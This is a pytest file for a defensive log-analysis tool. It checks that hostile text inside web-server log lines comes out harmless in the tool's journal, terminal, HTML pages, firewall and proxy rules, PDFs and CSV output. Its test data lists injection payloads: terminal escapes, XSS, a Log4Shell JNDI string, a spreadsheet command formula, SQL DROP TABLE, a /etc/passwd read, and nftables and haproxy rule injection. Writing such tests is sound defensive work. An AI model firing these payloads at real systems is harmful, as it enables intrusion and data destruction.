"""Hostile text in a log line travels the whole way and is harmless, and whole, at every edge it reaches."""

import io
from pathlib import Path

import pytest
from pypdf import PdfReader
from rich.console import Console

from rempart.__main__ import main
from rempart.adapters import rules as rule_files
from rempart.adapters.journal import Journal
from rempart.cli.status import show
from rempart.console.app import rendered
from rempart.console.duty import duty_page
from rempart.console.frame import frame
from rempart.console.words import words
from rempart.containment.policy import parse as parse_policy
from rempart.containment.render import haproxy, nftables
from rempart.detection.detector import Detection
from rempart.detection.finding import Finding
from rempart.detection.sigma import load
from rempart.detection.surroundings import Surroundings
from rempart.engine.facts import body_of, kind_of, read
from rempart.engine.fold.fold import folded
from rempart.engine.inputs import Found, Seal
from rempart.engine.state import State, enforcement, initial
from rempart.engine.step import Terms, step
from rempart.events.decode import DECODERS
from rempart.instants import Instant
from rempart.site.description import parse
from rempart.site.site import Language, Site
from rempart.station.recall import facts_of
from rempart.station.status import status

ROOT = Path(__file__).resolve().parents[2]
NOW = Instant(1_763_647_200_000_000)

HOSTILE = (
    "\x1b[2J\x1b]0;owned\x07",  # moves a terminal, sets its title
    "\u202egnp.exe\u2066",  # reorders what is read
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '#panic("x")#read("/etc/passwd")',  # typst
    "=cmd|'/c calc'!A1",  # a spreadsheet
    "; flush ruleset; add table ip x",  # nftables
    '" } http-request deny #',  # haproxy
    "'; DROP TABLE entries; --",
    "${jndi:ldap://x/a}",
)


@pytest.fixture(scope="module")
def site() -> Site:
    return parse((ROOT / "tests/attacks/site.toml").read_text(), "site.toml")


@pytest.fixture(scope="module")
def detection(site: Site) -> Detection:
    surroundings = Surroundings.of(site)
    return Detection(load(rule_files.read([str(ROOT / "rules")]), surroundings.placeholders), surroundings)


def log_line(second: int, text: str, code: int) -> bytes:
    """A line as nginx writes it: quotes, backslashes and control characters are escaped by the server."""
    escaped = "".join(
        char if char.isprintable() and char not in '"\\' else "".join(f"\\x{b:02X}" for b in char.encode())
        for char in text
    )
    return (
        f"203.0.113.9 - {escaped.replace(' ', '_')} [2025-11-20T14:00:{second:02}+00:00] "
        f'"GET /{escaped} HTTP/1.1" {code} 512 "{escaped}" "{escaped}" "portal.home.example"'
    ).encode()


def findings(detection: Detection, text: str) -> list[Finding]:
    """Thirty wrong passwords and a right one, by an account of that name."""
    fresh = detection.afresh()
    lines = [log_line(n, text, 401) for n in range(30)] + [log_line(31, text, 200)]
    events = [DECODERS["nginx"](line, "portal.log", number) for number, line in enumerate(lines, 1)]
    return [found for event in events if event for found in fresh.feed(event)]


def lived(site: Site, found: list[Finding]) -> tuple[State, list[object]]:
    """The state after these findings, and the facts sealed."""
    shipped = (ROOT / "src/rempart/containment/policy.toml").read_text()
    terms, state, sealed = Terms(site, parse_policy(shipped, "policy.toml")), initial(site), []
    for finding in found:
        state, commands = step(terms, state, Found(NOW, finding))
        sealed += [fact for command in commands if isinstance(command, Seal) for fact in command.facts]
    return state, sealed


@pytest.mark.parametrize("text", HOSTILE)
def test_it_reaches_every_edge_as_text(text: str, site: Site, detection: Detection, tmp_path: Path) -> None:
    found = findings(detection, text)
    assert {"guessing", "intrusion"} <= {finding.kind.value for finding in found}
    state, sealed = lived(site, found)
    (incident,) = state.incidents.values()
    (account,) = incident.accounts

    # the journal: sealed, read back, and still the same life
    path = tmp_path / "journal.db"
    journal = Journal.open(path, tmp_path / "keys", origin="rempart/test", now=NOW)
    for fact in sealed:
        assert read(body_of(fact)) == fact  # type: ignore[arg-type]
        journal.seal(kind_of(fact), body_of(fact), at=NOW)  # type: ignore[arg-type]
    assert folded(initial(site), site, facts_of(journal)) == state
    journal.close()

    # the terminal
    published = status(site, state, NOW, head=(1, "00"), verified=NOW, fault="")
    screen = io.StringIO()
    show(Console(file=screen, width=300, force_terminal=False), published)
    assert all(char.isprintable() or char == "\n" for char in screen.getvalue())

    # the page, in each language
    for language in Language:
        page = duty_page(site, published, NOW, NOW, words(language))
        html = rendered("duty.html", page, frame(site, words(language)))
        assert "<script>alert" not in html
        assert "<img src=x" not in html
        assert not set("\x1b\x07\u202e\u2066") & set(html)

    # the kernel and the proxy: nothing of it is in what is loaded
    ruleset = nftables.ruleset(site, enforcement(state), NOW)
    assert "table ip x" not in ruleset
    assert "http-request deny #" not in haproxy.openings_map(site, enforcement(state))

    # paper
    (tmp_path / "site.toml").write_text((ROOT / "tests/attacks/site.toml").read_text())
    out = tmp_path / "complaint.pdf"
    asked = ["paper", "complaint", incident.id, "--journal", str(path), "--site", str(tmp_path / "site.toml")]
    assert main([*asked, "--lang", "en", "--out", str(out)]) == 0
    written = "".join(page.extract_text() for page in PdfReader(out).pages)
    assert "203.0.113.9" in written
    assert account[:3] in written or "U+" in written


@pytest.mark.parametrize("form", ["csv", "table", "jsonl"])
def test_it_leaves_detect_as_text(form: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for number, text in enumerate(HOSTILE):
        lines = b"\n".join(log_line(n, text, 401) for n in range(30))
        (tmp_path / f"{number}.nginx.log").write_bytes(lines + b"\n")
    asked = ["detect", "--rules", str(ROOT / "rules/web"), "--format", form]
    assert main([*asked, *(str(log) for log in sorted(tmp_path.iterdir()))]) in (0, 3)
    told = capsys.readouterr().out
    found = {number for number in range(len(HOSTILE)) if f"/{number}.nginx.log" in told.replace("\n", "")}
    assert found == set(range(len(HOSTILE))) or form == "table"  # which cuts long paths
    assert told.count("\n") > len(HOSTILE)
    assert not set("\x1b\x07\u202e\u2066") & set(told.replace("\n", "")) or form == "jsonl"
    if form == "csv":
        assert not any(line.startswith(("=", "+", "-", "@")) for line in told.splitlines())
